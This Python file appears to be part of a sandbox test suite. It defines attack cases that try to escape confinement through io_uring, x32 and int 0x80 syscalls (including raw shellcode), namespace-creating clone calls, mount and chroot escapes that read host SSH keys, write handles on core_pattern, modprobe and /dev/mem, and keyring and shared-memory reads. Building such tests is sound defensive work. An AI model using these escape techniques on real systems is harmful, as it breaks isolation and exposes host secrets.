"""Attacks on the kernel's wide surface: calls a filter forgets, and doors that lead out of namespaces.

Most judges here look, while the act stands still, at what the kernel says the command holds: its
descriptors, namespaces, personality, root.

    FAMILY.cases  # the list, in order
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import time
from collections.abc import Callable
from pathlib import Path

from capsule.attack import host
from capsule.attack.case import Family
from capsule.attack.inside import Inside
from capsule.attack.judges import no_harm
from capsule.attack.stage import Stage

FAMILY = Family(no_harm)
case = FAMILY.case


def holds(*words: str) -> Callable[[Stage], None]:
    """A look at the command's descriptors: harm when one of them names any of these."""

    def look(stage: Stage) -> None:
        for pid in host.actors(stage.id, stage.capsule):
            for target in host.descriptors(pid).values():
                if any(word in target for word in words):
                    stage.notes["harm"] = f"the command holds {target}"

    return look


@case(
    "kernel.io-uring", 23, "open and write through io_uring, past every filter", source="openai/codex 10814"
)
def io_uring(a: Inside) -> None:
    parameters = ctypes.create_string_buffer(120)
    ring = a.sys("io_uring_setup", 4, parameters)
    raw = parameters.raw
    _sq_head, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", raw, 40)
    cq = struct.unpack_from("7I", raw, 80)
    size = max(sq_array + 16, cq[5] + 16 * 8)
    rings = mmap.mmap(ring, size, mmap.MAP_SHARED | 0x8000, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    entries = mmap.mmap(ring, 256, mmap.MAP_SHARED | 0x8000, 3, offset=0x10000000)
    for path in (a.outside + "/canary", a.ws + "/.attack-kept"):
        name = ctypes.create_string_buffer(path.encode())
        tail = struct.unpack_from("I", rings, sq_tail)[0]
        index = tail & struct.unpack_from("I", rings, sq_mask)[0]
        entry = struct.pack("BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, os.O_WRONLY)
        entries[index * 64 : index * 64 + 64] = entry + bytes(64 - len(entry))
        struct.pack_into("I", rings, sq_array + 4 * index, index)
        struct.pack_into("I", rings, sq_tail, tail + 1)
        a.sys("io_uring_enter", ring, 1, 1, 1, 0, 0)
        head = struct.unpack_from("I", rings, cq[0])[0]
        result = struct.unpack_from("i", rings, cq[5] + 16 * (head & 7) + 8)[0]
        struct.pack_into("I", rings, cq[0], head + 1)
        if result >= 0:
            os.write(result, a.mark.encode())


@case("kernel.io-uring-held", 23, "hold an io_uring at all", during=holds("io_uring"))
def io_uring_held(a: Inside) -> None:
    a.attempt(a.sys, "io_uring_setup", 4, ctypes.create_string_buffer(120))
    a.ready()


@case(
    "kernel.userfaultfd", 38, "userfaultfd, the tool that holds the kernel still", during=holds("userfaultfd")
)
def userfaultfd(a: Inside) -> None:
    for flags in (1, 0):
        a.attempt(a.sys, "userfaultfd", flags)
    a.attempt(os.open, "/dev/userfaultfd", os.O_RDWR)
    a.ready()


@case("kernel.bpf", 38, "load a BPF map", needs=("root",), during=holds("bpf"))
def bpf(a: Inside) -> None:
    a.attempt(a.sys, "bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1) + bytes(100)), 116)
    a.ready()


@case("kernel.perf", 38, "open a performance counter", during=holds("perf_event"))
def perf(a: Inside) -> None:
    raw = struct.pack("IIQ", 1, 112, 1) + bytes(24) + struct.pack("Q", 0x61) + bytes(72)
    a.attempt(a.sys, "perf_event_open", ctypes.create_string_buffer(raw), 0, -1, -1, 0)
    a.ready()


@case(
    "kernel.fanotify", 38, "watch the host's files with fanotify", needs=("root",), during=holds("fanotify")
)
def fanotify(a: Inside) -> None:
    for flags in (0, 0x200, 0x800):
        a.attempt(a.sys, "fanotify_init", flags, 0)
    a.ready()


@case("kernel.memfd-secret", 38, "memory that not even the host can read", during=holds("secretmem"))
def memfd_secret(a: Inside) -> None:
    a.attempt(a.sys, "memfd_secret", 0)
    a.ready()


@case(
    "kernel.mount-handles",
    18,
    "fsopen, open_tree, fsmount: handles on mounts",
    needs=("root",),
    during=holds("fscontext", "mnt", "[fs"),
)
def mount_handles(a: Inside) -> None:
    a.attempt(a.sys, "fsopen", "tmpfs", 0)
    a.attempt(a.sys, "open_tree", -100, "/", 1)
    a.ready()


def _personality(stage: Stage) -> None:
    for pid in host.actors(stage.id, stage.capsule):
        try:
            value = int(Path(f"/proc/{pid}/personality").read_text(), 16)
        except PermissionError:
            continue
        if value & 0x0440000:
            stage.notes["harm"] = f"address randomisation is off (personality {value:x})"


@case("kernel.personality", 38, "switch address randomisation off", during=_personality)
def personality(a: Inside) -> None:
    a.attempt(a.sys, "personality", 0x0040000)
    a.attempt(a.sys, "personality", 0x0400000)
    a.ready()


def _namespaces(stage: Stage) -> None:
    process = stage.process
    assert process
    kinds = ("user", "mnt", "net", "pid_for_children", "ipc", "uts")
    lineage = sorted(host.actors(stage.id, stage.capsule))
    if not lineage:
        return
    # The command's own first process stays where it was put; a child that moved shows another number.
    seen = {kind: {os.readlink(f"/proc/{pid}/ns/{kind}") for pid in lineage} for kind in kinds if lineage}
    moved = [kind for kind, places in seen.items() if len(places) > 1]
    if moved:
        stage.notes["harm"] = "the command made namespaces of its own: " + ", ".join(moved)


@case(
    "kernel.nested-userns",
    25,
    "unshare a user namespace to be root in it",
    needs=("userns",),
    during=_namespaces,
)
def nested_userns(a: Inside) -> None:
    if os.fork() == 0:
        for flags in (0x10000000, 0x10020000, 0x50000000, 0x00020000, 0x40000000):
            a.attempt(a.sys, "unshare", flags)
        time.sleep(10)
        os._exit(0)
    time.sleep(0.2)
    a.ready()


@case(
    "kernel.clone3", 24, "clone3 with namespace flags hidden in memory", needs=("userns",), during=_namespaces
)
def clone3(a: Inside) -> None:
    raw = ctypes.create_string_buffer(struct.pack("QQQQQ", 0x10000000, 0, 0, 0, 17) + bytes(48))
    child = a.attempt(a.sys, "clone3", raw, 88)
    if child == 0:
        time.sleep(10)
        os._exit(0)
    time.sleep(0.1)
    a.ready()


@case(
    "kernel.clone",
    24,
    "clone with namespace flags, also above 32 bits",
    needs=("userns", "x86"),
    during=_namespaces,
)
def clone(a: Inside) -> None:
    for flags in (0x10000000 | 17, 0x10000000 | 17 | 1 << 32):
        child = a.attempt(a.nr, 56, flags, 0, 0, 0, 0)
        if child == 0:
            time.sleep(10)
            os._exit(0)
    time.sleep(0.1)
    a.ready()


@case(
    "kernel.x32", 20, "the x32 form of a call", source="netblue30/firejail 87", needs=("x86",), may_die=True
)
def x32(a: Inside) -> None:
    for path in (a.ws + "/.attack-kept", a.outside + "/canary"):
        descriptor = a.attempt(a.nr, 0x40000000 | 2, path, os.O_WRONLY, 0)
        if descriptor is not None:
            os.write(descriptor, a.mark.encode())


@case(
    "kernel.int80",
    20,
    "the 32-bit entry: int 0x80",
    source="nolabs-ai/nono 1636",
    needs=("x86",),
    may_die=True,
)
def int80(a: Inside) -> None:
    for path in (a.outside + "/canary", a.ws + "/.attack-kept"):
        page = mmap.mmap(-1, 8192, mmap.MAP_PRIVATE | 0x40 | mmap.MAP_ANONYMOUS, 7)  # MAP_32BIT
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        page[4096 : 4096 + len(path) + 1] = path.encode() + b"\0"
        # push rbx; mov eax,5 (open); mov ebx,path; mov ecx,O_WRONLY; xor edx,edx; int 0x80; pop rbx; ret
        text = (
            b"\x53\xb8\x05\0\0\0\xbb"
            + struct.pack("I", address + 4096)
            + b"\xb9\x01\0\0\0\x31\xd2\xcd\x80\x5b\xc3"
        )
        page[: len(text)] = text
        descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        if descriptor >= 0:
            os.write(descriptor, a.mark.encode())


@case("kernel.mount", 18, "mount over, bind and remount to reach what is covered", needs=("root",))
def mount(a: Inside) -> None:
    if not a.elsewhere("mnt"):
        # A mount namespace of its own, private all the way: the host's table stays as it is.
        a.sys("unshare", 0x00020000)
        a.sys("mount", "none", "/", 0, 0x44000, 0)
    os.mkdir(a.ws + "/bound")
    for source in (a.outside, a.home, "/"):
        a.attempt(a.sys, "mount", source, a.ws + "/bound", 0, 4096, 0)
        a.attempt(a.sys, "mount", "none", "/", 0, 32 | 4096, 0)
        tree = a.attempt(a.sys, "open_tree", -100, source, 1)
        if tree is not None:
            a.attempt(a.sys, "move_mount", tree, "", -100, a.ws + "/bound", 4)
        for name in ("/canary", "/.ssh/id_ed25519", a.outside + "/canary"):
            a.say(a.attempt(a.read, a.ws + "/bound" + name))
            a.attempt(a.write, a.ws + "/bound" + name, os.O_WRONLY)


@case("kernel.chroot", 18, "chroot, pivot_root and climbing above the root", needs=("root",))
def chroot(a: Inside) -> None:
    above = os.open("/", os.O_RDONLY)
    os.mkdir(a.ws + "/jail")
    a.attempt(os.chroot, a.ws + "/jail")
    a.attempt(a.sys, "pivot_root", ".", ".")
    os.fchdir(above)
    for _ in range(40):
        os.chdir("..")
    a.attempt(os.chroot, ".")
    a.say(a.attempt(a.read, a.outside + "/canary"))
    a.attempt(a.write, a.outside + "/canary", os.O_WRONLY)


def _global_switches(stage: Stage) -> None:
    for pid in host.actors(stage.id, stage.capsule):
        for number, target in host.descriptors(pid).items():
            if not target.startswith(("/proc/sys", "/sys/", "/dev/", "/proc/sysrq", "/proc/bus")):
                continue
            if target.startswith(("/dev/null", "/dev/pts", "/dev/tty", "/dev/full", "/dev/zero", "/dev/shm")):
                continue
            try:
                words = Path(f"/proc/{pid}/fdinfo/{number}").read_text().split()
            except OSError:
                continue
            if int(words[words.index("flags:") + 1], 8) & 3:
                stage.notes["harm"] = f"the command has {target} open for writing"


@case(
    "kernel.global-switches",
    37,
    "core_pattern, modprobe, binfmt_misc, sysrq, cgroups, disks, memory: open for writing",
    needs=("root",),
    during=_global_switches,
)
def global_switches(a: Inside) -> None:
    paths = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/power/state",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/kvm",
        "/dev/fuse",
    ]
    if a.elsewhere("mnt"):
        for folder in (
            "/sys/fs/cgroup/pids",
            "/sys/fs/cgroup/memory",
            "/sys/fs/cgroup/unified",
            "/sys/block",
        ):
            for top, _, names in os.walk(folder):
                paths.extend(os.path.join(top, name) for name in names[:8])
                if len(paths) > 80:
                    break
        disks = [
            name for name in a.attempt(os.listdir, "/dev") or [] if name.startswith(("vd", "sd", "nvme"))
        ]
        paths.extend("/dev/" + name for name in disks)
    else:
        # On the host itself one switch, opened and left as it is, is proof enough.
        paths = paths[:1]
    held = [a.attempt(os.open, path, os.O_WRONLY | os.O_NONBLOCK) for path in paths]
    a.ready()
    del held


def _key_for_all(stage: Stage) -> None:
    stage.extra["key"] = stage.id
    libc = ctypes.CDLL(None, use_errno=True)
    number = host.CALL_ADD_KEY
    serial = libc.syscall(number, b"user", stage.id.encode(), stage.secret.encode(), len(stage.secret), -4)
    if serial > 0:
        # Possessor and user may do all: what a key of this user's session allows.
        libc.syscall(number + 2, 5, serial, 0x3F3F0000)
        stage.extra["serial"] = serial
        stage.resources.callback(libc.syscall, number + 2, 9, serial, -4)


@case(
    "kernel.keyring",
    39,
    "read a key of the user's keyring, and leave one there",
    source="nolabs-ai/nono 1711",
    prepare=_key_for_all,
    needs=("x86",),
)
def keyring(a: Inside) -> None:
    buffer = ctypes.create_string_buffer(400)
    for ring in (-4, -5, -3):
        serial = a.attempt(a.sys, "keyctl", 10, ring, "user", a.extra["key"], 0)
        for number in {serial, a.extra.get("serial")} - {None}:
            if a.attempt(a.sys, "keyctl", 11, number, buffer, 400) is not None:
                a.say(buffer.raw)


def _segment(stage: Stage) -> None:
    key = int.from_bytes(os.urandom(3), "big") + 1
    number = host.shared_memory(stage.secret.encode(), key)
    stage.resources.callback(host.forget_memory, number)
    stage.extra["key"] = key


@case("kernel.shared-memory", 38, "System V memory of the host", prepare=_segment)
def shared_memory(a: Inside) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    number = a.sys("shmget", a.extra["key"], 0, 0)
    address = libc.shmat(number, None, 0o10000)
    a.say(ctypes.string_at(address, 200))


def _spilled(stage: Stage) -> str | None:
    found = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        path = Path(folder, stage.mark)
        if path.exists():
            path.unlink()
            found.append(folder)
    return "a file appeared in the host's " + ", ".join(found) if found else None


@case("kernel.spill", 37, "leave a file in the host's /tmp, /var/tmp or /dev/shm", judge=_spilled)
def spill(a: Inside) -> None:
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        a.attempt(a.write, folder + "/" + a.mark)
